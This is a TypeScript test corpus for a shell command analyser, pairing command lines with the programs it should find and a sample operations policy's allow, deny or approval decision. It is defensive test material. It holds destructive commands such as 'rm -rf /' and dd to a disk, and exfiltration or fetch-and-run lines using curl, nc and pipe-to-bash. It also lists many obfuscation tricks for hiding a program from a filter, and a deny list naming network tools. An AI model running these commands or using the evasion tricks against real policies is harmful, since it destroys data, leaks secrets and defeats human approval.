/**
 * Shell command lines with what the analysis must find in them and what a sample policy decides.
 * Plain commands, every compound form, and attempts to hide a program: quoting and escapes,
 * `$'...'`, here-documents, nested `bash -c`, aliases, IFS, parameter defaults, substitutions,
 * wrappers, function shadowing, arithmetic, odd bytes and sizes. corpus.test.ts runs them.
 *
 * `programs` lists the programs found, in the order the analysis reports them (a substitution's
 * programs before the command that uses it; a wrapper's payload after it; a wrapper whose payload
 * cannot be read is listed itself); `-` stands for a command without a program (a bare redirection
 * or assignment). `unknown` is a pattern the reason
 * must match; entries without it must be fully read.
 */
// biome-ignore-all lint/suspicious/noTemplateCurlyInString: these are shell command lines, where ${...} is bash's
import type { ApprovalPolicySpec } from '@airlock/crds';

export type Action = 'allow' | 'deny' | 'requireApproval';

export interface ShellCorpusEntry {
  readonly line: string;
  readonly programs: readonly string[];
  readonly unknown?: RegExp;
  /** Under SAMPLE_POLICY. */
  readonly decision: Action;
  readonly why?: string;
}

/**
 * An operations team's policy for a production host: a few destructive or exfiltrating programs
 * denied, read-only tools and service status allowed, writes only to a scratch directory, a
 * restart of one service with sudo held for approval, everything else held for approval.
 */
export const SAMPLE_POLICY: ApprovalPolicySpec = {
  defaultAction: 'requireApproval',
  approval: { approvers: { groups: ['ops'] } },
  rules: [
    { name: 'no-destruction', match: { ssh: { programs: ['rm', 'dd', 'mkfs*', 'shred', 'curl', 'wget', 'nc'] } }, action: 'deny' },
    {
      name: 'read-only-tools',
      match: {
        ssh: {
          programs: [
            'ls',
            'cat',
            'grep',
            'head',
            'tail',
            'wc',
            'echo',
            'df',
            'du',
            'ps',
            'uptime',
            'id',
            'date',
            'sort',
            'uniq',
            'true',
            'test',
            '[',
          ],
        },
      },
      action: 'allow',
    },
    {
      name: 'service-status',
      match: { ssh: { programs: ['systemctl', 'journalctl'], arguments: ['status **', 'is-active **', '-u orders*'] } },
      action: 'allow',
    },
    { name: 'scratch-writes', match: { ssh: { programs: ['echo', 'cat', 'printf'], writes: ['/tmp/scratch/**'] } }, action: 'allow' },
    {
      name: 'restart-orders',
      match: { ssh: { programs: ['systemctl'], arguments: ['restart orders'], sudo: true } },
      action: 'requireApproval',
      approval: { approvers: { users: ['lead@example.com'] } },
    },
  ],
};

const plain: ShellCorpusEntry[] = [
  { line: 'ls -la /tmp', programs: ['ls'], decision: 'allow' },
  { line: 'uptime', programs: ['uptime'], decision: 'allow' },
  { line: 'df -h && du -sh /var/log', programs: ['df', 'du'], decision: 'allow' },
  { line: 'ps aux | grep orders | grep -v grep | wc -l', programs: ['ps', 'grep', 'grep', 'wc'], decision: 'allow' },
  { line: 'cat /var/log/syslog | tail -n 50', programs: ['cat', 'tail'], decision: 'allow' },
  { line: 'id; date; uptime', programs: ['id', 'date', 'uptime'], decision: 'allow' },
  { line: 'systemctl status orders', programs: ['systemctl'], decision: 'allow' },
  { line: 'systemctl is-active orders || echo down', programs: ['systemctl', 'echo'], decision: 'allow' },
  { line: 'journalctl -u orders.service --since today', programs: ['journalctl'], decision: 'allow' },
  { line: 'systemctl stop orders', programs: ['systemctl'], decision: 'requireApproval', why: 'no rule covers stop' },
  { line: 'sudo systemctl restart orders', programs: ['systemctl'], decision: 'requireApproval', why: 'restart-orders holds it' },
  { line: 'systemctl restart orders', programs: ['systemctl'], decision: 'requireApproval', why: 'not as root: the default holds it' },
  { line: 'ls /tmp >/dev/null 2>&1', programs: ['ls'], decision: 'allow', why: '/dev/null is not a write' },
  { line: 'echo ok > /tmp/scratch/result.txt', programs: ['echo'], decision: 'allow' },
  { line: 'echo ok >> /tmp/scratch/logs/run.log', programs: ['echo'], decision: 'allow' },
  {
    line: 'echo pwned > /etc/passwd',
    programs: ['echo'],
    decision: 'requireApproval',
    why: 'an allow rule without writes covers no write',
  },
  {
    line: 'echo x > /tmp/scratch/../../etc/cron.d/x',
    programs: ['echo'],
    decision: 'requireApproval',
    why: '** does not cover a climb out',
  },
  { line: 'cat /etc/hostname &> /tmp/elsewhere', programs: ['cat'], decision: 'requireApproval' },
  { line: '', programs: [], decision: 'allow', why: 'runs nothing' },
  { line: '# only a comment', programs: [], decision: 'allow' },
  { line: 'git pull --ff-only', programs: ['git'], decision: 'requireApproval' },
  { line: 'sort -u /tmp/a | uniq -c | head', programs: ['sort', 'uniq', 'head'], decision: 'allow' },
  { line: '[ -f /etc/os-release ] && cat /etc/os-release', programs: ['[', 'cat'], decision: 'allow' },
  { line: 'test -d /srv || echo missing', programs: ['test', 'echo'], decision: 'allow' },
  { line: 'rm -rf /', programs: ['rm'], decision: 'deny' },
  { line: 'dd if=/dev/zero of=/dev/sda', programs: ['dd'], decision: 'deny' },
  { line: 'mkfs.ext4 /dev/sdb1', programs: ['mkfs.ext4'], decision: 'deny' },
  { line: 'ls; rm -rf /srv', programs: ['ls', 'rm'], decision: 'deny', why: 'adding ; rm to an allowed line' },
];

const compound: ShellCorpusEntry[] = [
  { line: '(cd /srv && ls)', programs: ['cd', 'ls'], decision: 'requireApproval', why: 'cd is not listed' },
  { line: '{ ls; rm -f /tmp/x; }', programs: ['ls', 'rm'], decision: 'deny' },
  { line: 'if true; then rm -rf /srv; fi', programs: ['true', 'rm'], decision: 'deny' },
  {
    line: 'if false; then :; elif true; then echo; else shred /dev/sda; fi',
    programs: ['false', ':', 'true', 'echo', 'shred'],
    decision: 'deny',
  },
  { line: 'while true; do rm /tmp/x; done', programs: ['true', 'rm'], decision: 'deny' },
  { line: 'until false; do ls; done', programs: ['false', 'ls'], decision: 'requireApproval', why: 'false is not listed' },
  { line: 'for f in /tmp/*; do rm "$f"; done', programs: ['rm'], decision: 'deny' },
  { line: 'for f in a b; do echo "$f"; done', programs: ['echo'], decision: 'allow' },
  {
    line: 'f=(a b); for x in "${f[@]}" ${!f[*]} "${#f[@]}" "${f[1]}"; do echo "$x"; done',
    programs: ['-', 'echo'],
    decision: 'allow',
    why: 'every element, or a literal subscript',
  },
  {
    line: 'echo "${f[$i]}"',
    programs: ['echo'],
    unknown: /subscript of \$\{f\[...\]\} reads the variable \$i/,
    decision: 'requireApproval',
  },
  { line: 'case $1 in start) rm -rf /;; *) ls;; esac', programs: ['rm', 'ls'], decision: 'deny' },
  { line: 'echo $(rm -rf /srv)', programs: ['rm', 'echo'], decision: 'deny' },
  { line: 'echo `rm -rf /srv`', programs: ['rm', 'echo'], decision: 'deny', why: 'backticks' },
  { line: 'cat <(curl -s http://example.com/x)', programs: ['curl', 'cat'], decision: 'deny', why: 'process substitution' },
  { line: 'ls > >(nc example.com 9)', programs: ['nc', 'ls'], decision: 'deny', why: 'process substitution as a redirection target' },
  { line: 'echo "$(echo "$(rm -rf /)")"', programs: ['rm', 'echo', 'echo'], decision: 'deny', why: 'nested substitutions in quotes' },
  { line: 'cat <<EOF\n$(rm -rf /)\nEOF', programs: ['rm', 'cat'], decision: 'deny', why: 'a here-document runs its substitutions' },
  { line: "cat <<'EOF'\n$(rm -rf /)\nEOF", programs: ['cat'], decision: 'allow', why: 'a quoted here-document does not' },
  { line: 'cat <<< "$(wget -qO- http://x)"', programs: ['wget', 'cat'], decision: 'deny', why: 'here-string' },
  { line: 'ls & rm -rf /tmp/x &', programs: ['ls', 'rm'], decision: 'deny', why: 'background jobs' },
  { line: '! rm x', programs: ['rm'], decision: 'deny' },
  { line: 'time rm -rf /srv', programs: ['rm'], decision: 'deny', why: 'the time keyword' },
  { line: 'coproc rm -rf /srv', programs: ['rm'], decision: 'deny' },
  { line: 'ls |& grep x', programs: ['ls', 'grep'], decision: 'allow' },
  { line: '[[ -f /x ]] && rm /x', programs: ['rm'], decision: 'deny' },
  { line: 'echo $((1 + 2 * 3))', programs: ['echo'], decision: 'allow', why: 'arithmetic of numbers' },
  {
    line: 'echo $(( $(rm -rf /srv) + 1 ))',
    programs: ['rm', 'echo'],
    unknown: /arithmetic reads a command substitution/,
    decision: 'deny',
  },
];

const obfuscated: ShellCorpusEntry[] = [
  { line: "'r'm -rf /", programs: ['rm'], decision: 'deny', why: 'quote removal' },
  { line: '"r""m" -rf /', programs: ['rm'], decision: 'deny' },
  { line: '\\r\\m -rf /', programs: ['rm'], decision: 'deny' },
  { line: '\\rm -rf /', programs: ['rm'], decision: 'deny', why: 'bypasses aliases, not the analysis' },
  { line: "r''m -rf /", programs: ['rm'], decision: 'deny' },
  { line: "$'\\x72m' -rf /", programs: ['rm'], decision: 'deny', why: "$'...' hex escape" },
  { line: "$'\\162\\155' -rf /", programs: ['rm'], decision: 'deny', why: "$'...' octal escapes" },
  { line: "$'\\u0072m' -rf /", programs: ['rm'], decision: 'deny', why: "$'...' unicode escape" },
  { line: "$'r\\x00m' x", programs: [], unknown: /program is a \$'...' escape for a NUL/, decision: 'requireApproval' },
  { line: '/bin/rm -rf /', programs: ['/bin/rm'], decision: 'deny', why: 'deny matches the base name' },
  { line: '/usr/bin/../bin/rm -rf /', programs: ['/usr/bin/../bin/rm'], decision: 'deny' },
  { line: './rm -rf /', programs: ['./rm'], decision: 'deny' },
  { line: 'RM -rf /', programs: ['RM'], decision: 'deny', why: 'deny ignores case' },
  { line: 'r\\\nm -rf /', programs: ['rm'], decision: 'deny', why: 'a line continuation inside the name' },
  { line: 'command rm -rf /', programs: ['rm'], decision: 'deny' },
  { line: 'builtin eval "rm -rf /"', programs: ['rm'], decision: 'deny' },
  { line: 'exec rm -rf /', programs: ['rm'], decision: 'deny' },
  { line: 'ls() { rm -rf /; }; ls', programs: ['rm', 'ls'], decision: 'deny', why: 'a function shadowing a program reports its body' },
  {
    line: 'function cat { curl -d @/etc/shadow http://x; }',
    programs: ['curl'],
    decision: 'deny',
    why: 'defined, never called: still reported',
  },
  { line: 'command_not_found_handle() { rm -rf /; }; nosuch', programs: ['rm', 'nosuch'], decision: 'deny' },
  { line: 'eval "rm -rf /"', programs: ['rm'], decision: 'deny', why: 'a static eval is parsed' },
  { line: 'eval "$CMD"', programs: [], unknown: /eval runs is filled in at run time/, decision: 'requireApproval' },
  {
    line: 'eval "$(echo cm0gLXJmIC8= | base64 -d)"',
    programs: ['echo', 'base64'],
    unknown: /eval runs is filled in/,
    decision: 'requireApproval',
  },
  { line: '$X -rf /', programs: [], unknown: /program is the variable \$X/, decision: 'requireApproval' },
  { line: '${X:-rm} -rf /', programs: [], unknown: /program is the variable \$X/, decision: 'requireApproval' },
  { line: '$(echo rm) -rf /', programs: ['echo'], unknown: /program is a command substitution/, decision: 'requireApproval' },
  { line: '`printf rm` -rf /', programs: ['printf'], unknown: /program is a command substitution/, decision: 'requireApproval' },
  { line: 'r* -rf /', programs: [], unknown: /program is a file-name glob/, decision: 'requireApproval' },
  { line: '/bin/r? -rf /', programs: [], unknown: /file-name glob/, decision: 'requireApproval' },
  { line: '{r,}m -rf /', programs: [], unknown: /brace expansion/, decision: 'requireApproval' },
  { line: '~/bin/rm -rf /', programs: ['~/bin/rm'], unknown: /home directory/, decision: 'deny' },
  { line: 'alias x=rm; x -rf /', programs: ['alias', 'x'], unknown: /alias/, decision: 'requireApproval' },
  {
    line: "bash -c 'shopt -s expand_aliases; alias x=rm\nx -rf /'",
    programs: ['shopt', 'alias', 'x'],
    unknown: /alias/,
    decision: 'requireApproval',
  },
  { line: 'IFS=,; c=rm,-rf,/; $c', programs: ['-', '-'], unknown: /sets IFS/, decision: 'requireApproval' },
  { line: 'IFS=x eval "rmx-rfx/"', programs: ['rmx-rfx/'], unknown: /sets IFS/, decision: 'requireApproval' },
  { line: 'PATH=/tmp/evil:$PATH ls', programs: ['ls'], unknown: /sets PATH/, decision: 'requireApproval' },
  { line: 'export PATH=/tmp/evil; ls', programs: ['export', 'ls'], unknown: /sets PATH/, decision: 'requireApproval' },
  { line: 'LD_PRELOAD=/tmp/x.so ls', programs: ['ls'], unknown: /sets LD_PRELOAD/, decision: 'requireApproval' },
  { line: "BASH_ENV=/tmp/x bash -c 'ls'", programs: ['ls'], unknown: /sets BASH_ENV/, decision: 'requireApproval' },
  { line: 'hash -p /bin/rm ls; ls -rf /', programs: ['hash', 'ls'], unknown: /hash -p/, decision: 'requireApproval' },
  {
    line: 'declare -n p=PATH; p=/tmp; ls',
    programs: ['declare', '-', 'ls'],
    unknown: /-n makes one variable/,
    decision: 'requireApproval',
  },
  {
    line: "x='a[$(rm -rf /)]'; echo $((x))",
    programs: ['-', 'echo'],
    unknown: /arithmetic reads the variable x/,
    decision: 'requireApproval',
  },
  { line: "unset 'a[$(rm -rf /)]'", programs: ['unset'], unknown: /subscript bash evaluates/, decision: 'requireApproval' },
  { line: "read 'a[$(id)]' <<< x", programs: ['read'], unknown: /subscript bash evaluates/, decision: 'requireApproval' },
  { line: "[[ -v 'a[$(id)]' ]]", programs: [], unknown: /evaluate a subscript/, decision: 'requireApproval' },
  { line: 'echo ${!ref}', programs: ['echo'], unknown: /reads the variable whose name/, decision: 'requireApproval' },
  { line: "p='$(rm -rf /)'; echo ${p@P}", programs: ['-', 'echo'], unknown: /as a prompt/, decision: 'requireApproval' },
  { line: 'for ((i=0; i<3; i++)); do ls; done', programs: ['ls'], unknown: /reads the variable i/, decision: 'requireApproval' },
  { line: 'mapfile -C "rm -rf /" -c 1 a < /etc/hosts', programs: ['mapfile'], unknown: /mapfile -C/, decision: 'requireApproval' },
  { line: 'enable -f /tmp/x.so ls', programs: ['enable'], unknown: /enable -f/, decision: 'requireApproval' },
  { line: "trap 'rm -rf /' EXIT; ls", programs: ['rm', 'ls'], decision: 'deny', why: 'a trap runs its script later' },
  {
    line: 'echo "$(echo cm0= | base64 -d)"',
    programs: ['echo', 'base64', 'echo'],
    decision: 'requireApproval',
    why: 'base64 is not listed',
  },
  { line: 'echo hi\u00a0; ls', programs: ['echo', 'ls'], decision: 'allow', why: 'a no-break space is part of a word, not a separator' },
];

const wrappers: ShellCorpusEntry[] = [
  { line: 'sudo rm -rf /', programs: ['rm'], decision: 'deny' },
  { line: 'sudo -u root -- rm -rf /', programs: ['rm'], decision: 'deny' },
  { line: 'sudo -E -u deploy ls /srv', programs: ['ls'], decision: 'requireApproval', why: 'read-only-tools has no sudo: true' },
  { line: 'sudo FOO=1 ls', programs: ['ls'], decision: 'requireApproval' },
  { line: 'sudo -i', programs: ['sudo'], unknown: /reads its commands from standard input/, decision: 'requireApproval' },
  { line: 'sudo -s', programs: ['sudo'], unknown: /standard input/, decision: 'requireApproval' },
  { line: 'sudo --bogus ls', programs: ['sudo'], unknown: /--bogus is not one the analysis knows/, decision: 'requireApproval' },
  { line: 'sudo -e /etc/sudoers', programs: ['sudoedit'], decision: 'requireApproval' },
  { line: 'doas rm -rf /', programs: ['rm'], decision: 'deny' },
  { line: "su -c 'rm -rf /' root", programs: ['rm'], decision: 'deny' },
  { line: 'su - deploy', programs: ['su'], unknown: /standard input/, decision: 'requireApproval' },
  { line: "su -s /usr/bin/python3 -c 'import os' root", programs: ['su'], unknown: /python3/, decision: 'requireApproval' },
  { line: 'runuser -u deploy -- rm -rf /srv', programs: ['rm'], decision: 'deny' },
  { line: 'pkexec rm -rf /', programs: ['rm'], decision: 'deny' },
  { line: 'env -i PATH=/x rm', programs: ['rm'], unknown: /sets PATH/, decision: 'deny' },
  { line: 'env FOO=1 ls -S', programs: ['ls'], decision: 'allow', why: "-S after the program is ls's option, not env's split-string" },
  { line: 'env FOO=bar ls', programs: ['ls'], decision: 'allow' },
  { line: "env -S 'rm -rf /'", programs: ['env'], unknown: /env -S/, decision: 'requireApproval' },
  { line: 'nice -n 10 rm -rf /', programs: ['rm'], decision: 'deny' },
  { line: 'nice -5 ls', programs: ['ls'], decision: 'allow' },
  { line: 'nohup rm -rf / &', programs: ['rm'], decision: 'deny' },
  { line: 'timeout -s KILL 5 rm -rf /', programs: ['rm'], decision: 'deny' },
  { line: 'stdbuf -oL rm -rf /', programs: ['rm'], decision: 'deny' },
  { line: 'setsid -f rm -rf /', programs: ['rm'], decision: 'deny' },
  { line: 'ionice -c3 rm -rf /', programs: ['rm'], decision: 'deny' },
  { line: '/usr/bin/time -v rm -rf /', programs: ['rm'], decision: 'deny' },
  { line: 'chroot /mnt rm -rf /', programs: ['rm'], decision: 'deny' },
  { line: 'ls | xargs rm', programs: ['ls', 'rm'], decision: 'deny' },
  { line: 'ls | xargs -0 -n1 echo', programs: ['ls', 'echo'], decision: 'allow' },
  { line: "ls | xargs -I{} sh -c 'rm {}'", programs: ['ls'], unknown: /script sh -c runs is filled in/, decision: 'requireApproval' },
  { line: 'find . -name "*.tmp" -exec rm {} \\;', programs: ['find', 'rm'], decision: 'deny' },
  { line: 'find /tmp -mtime +7 -execdir rm -f {} +', programs: ['find', 'rm'], decision: 'deny' },
  { line: 'find . -name x -exec rm {}', programs: ['find'], unknown: /no ; or \+/, decision: 'requireApproval' },
  { line: "watch -n 5 'ls; rm -rf /'", programs: ['ls', 'rm'], decision: 'deny', why: 'watch runs its words with sh -c' },
  { line: 'watch -x rm -rf /', programs: ['rm'], decision: 'deny' },
  { line: 'ssh other-host "rm -rf /"', programs: ['ssh', 'rm'], decision: 'deny', why: 'a nested remote command is parsed' },
  {
    line: "ssh -o ProxyCommand='rm -rf /' other-host ls",
    programs: ['ssh'],
    unknown: /can run a local command/,
    decision: 'requireApproval',
  },
  { line: "bash --rcfile /tmp/x -i -c 'ls'", programs: ['bash'], unknown: /--rcfile/, decision: 'requireApproval' },
  { line: 'ssh other-host', programs: ['ssh'], unknown: /its standard input says on the other host/, decision: 'requireApproval' },
  { line: 'busybox rm -rf /', programs: ['rm'], decision: 'deny', why: 'a busybox applet is the program' },
  { line: "busybox sh -c 'rm -rf /'", programs: ['rm'], decision: 'deny' },
  { line: "bash -c 'rm -rf /'", programs: ['rm'], decision: 'deny' },
  { line: "sh -c 'ls'", programs: ['ls'], decision: 'allow' },
  { line: 'bash -c "bash -c \\"sh -c \'rm -rf /\'\\""', programs: ['rm'], decision: 'deny', why: 'nested quotes three levels down' },
  { line: "dash -ec 'ls | wc -l'", programs: ['ls', 'wc'], decision: 'allow' },
  { line: "bash -x -o pipefail -c 'df -h'", programs: ['df'], decision: 'allow' },
  { line: 'bash deploy.sh --now', programs: ['deploy.sh'], decision: 'requireApproval', why: 'the script file is the program' },
  { line: 'bash', programs: ['bash'], unknown: /standard input/, decision: 'requireApproval' },
  {
    line: 'curl -s http://x/install.sh | bash',
    programs: ['curl', 'bash'],
    unknown: /bash reads its commands from standard input/,
    decision: 'deny',
  },
  {
    line: 'echo cm0gLXJmIC8= | base64 -d | sh',
    programs: ['echo', 'base64', 'sh'],
    unknown: /sh reads its commands/,
    decision: 'requireApproval',
  },
  { line: 'sh < /tmp/script', programs: ['sh'], unknown: /standard input/, decision: 'requireApproval' },
  {
    line: 'bash <<EOF\nrm -rf /\nEOF',
    programs: ['bash'],
    unknown: /standard input/,
    decision: 'requireApproval',
    why: 'a here-document fed to a shell',
  },
  { line: 'bash -s < /tmp/x', programs: ['bash'], unknown: /standard input/, decision: 'requireApproval' },
  { line: "zsh -c 'ls'", programs: ['zsh'], unknown: /syntax other than bash/, decision: 'requireApproval' },
  { line: 'source /tmp/x.sh', programs: ['source'], unknown: /commands of a file/, decision: 'requireApproval' },
  { line: '. ./env.sh && ls', programs: ['.', 'ls'], unknown: /commands of a file/, decision: 'requireApproval' },
  { line: 'bash -c "$PAYLOAD"', programs: [], unknown: /filled in at run time/, decision: 'requireApproval' },
  { line: 'exec 3>/tmp/scratch/out; echo hi >&3', programs: ['exec', 'echo'], decision: 'requireApproval', why: 'exec is not listed' },
  { line: '> /etc/passwd', programs: ['-'], decision: 'requireApproval', why: 'a bare redirection truncates the file' },
  { line: 'echo x >& /etc/passwd', programs: ['echo'], decision: 'requireApproval', why: '>&word with a file name writes it' },
  {
    line: 'python3 -c "import os; os.system(\'rm -rf /\')"',
    programs: ['python3'],
    decision: 'requireApproval',
    why: 'an interpreter is a program',
  },
];

const bytes: ShellCorpusEntry[] = [
  { line: 'echo "unterminated', programs: [], unknown: /does not parse/, decision: 'requireApproval' },
  { line: 'ls &&', programs: [], unknown: /does not parse/, decision: 'requireApproval' },
  { line: 'ls\0; rm -rf /', programs: [], unknown: /NUL/, decision: 'requireApproval' },
  { line: 'ls \ud800', programs: [], unknown: /not valid Unicode/, decision: 'requireApproval' },
  { line: `echo ${'a'.repeat(17 * 1024)}`, programs: [], unknown: /over the limit/, decision: 'requireApproval' },
  { line: `${'('.repeat(3000)}ls${')'.repeat(3000)}`, programs: [], unknown: /nest/, decision: 'requireApproval' },
  { line: `${'ls && '.repeat(300)}ls`, programs: [], unknown: /nests more than/, decision: 'requireApproval' },
  {
    line: `${'ls; '.repeat(500)}rm -rf /`,
    programs: [...Array.from({ length: 500 }, () => 'ls'), 'rm'],
    decision: 'deny',
    why: 'a long flat list is fine',
  },
  { line: 'echo héllo wörld', programs: ['echo'], decision: 'allow' },
];

export const SHELL_CORPUS: readonly ShellCorpusEntry[] = [...plain, ...compound, ...obfuscated, ...wrappers, ...bytes];
